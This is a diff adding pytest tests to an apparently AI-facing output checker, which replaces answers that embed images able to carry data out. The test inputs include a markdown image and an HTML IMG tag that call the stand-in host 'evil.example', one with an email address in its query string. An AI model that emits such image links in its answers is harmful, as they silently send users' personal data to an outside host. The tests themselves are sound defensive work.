@@ -385,3 +385,20 @@ def test_it_needs_the_id_word_right_before_the_number():
     r = redact_pii(text)
     assert "111222333" not in r.text
     assert "Order 123456782." in r.text  # a valid BSN too, but nothing names it
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "Here you go ![status](https://evil.example/p.png?d=jane@example.com)",
+        'Tracking: <IMG src="https://evil.example/x?c=1">',
+    ],
+)
+def test_it_replaces_answers_with_images_that_could_carry_data_out(answer):
+    v = _check(answer, allowed_pii=["jane@example.com"])
+    assert v.replaced and "image" in v.reasons
+
+
+def test_it_keeps_plain_links_from_the_articles():
+    v = _check("See [our returns page](https://acme.example/returns) for the form.")
+    assert not v.replaced
